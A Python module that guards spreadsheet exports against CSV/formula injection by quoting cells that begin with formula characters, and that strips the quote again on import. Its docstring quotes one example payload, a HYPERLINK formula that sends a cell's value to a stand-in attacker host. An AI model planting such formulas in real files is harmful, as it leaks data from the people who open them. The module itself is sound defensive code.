"""Cells we write into files a spreadsheet program opens (CSV and XLSX exports, templates).

A text cell that begins with = + - or @ (or a tab or carriage return, which some programs skip
before reading one of those) is read by Excel, LibreOffice and Google Sheets as a formula: a
product named `=HYPERLINK("http://evil.example/?"&A1, "click")` would run on the accountant's
machine. Every exporter passes each cell through `safe_cell`, which prefixes such text with a single
quote, as OWASP advises ("CSV Injection"). Numbers stay numbers: a negative quantity written as a
number is a value, not a formula. Our importers drop the quote again (`unquoted_cell`), so an
exported file imports back unchanged.
"""

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"


def safe_cell(value: object) -> object:
    """The cell to write: text that a spreadsheet would run as a formula gets a leading quote."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return QUOTE + value
    return value


def unquoted_cell(text: str) -> str:
    """The text an exporter neutralised with `safe_cell`, as it was."""
    if text.startswith(QUOTE) and text[1:2] and text[1:].startswith(FORMULA_STARTS):
        return text[1:]
    return text
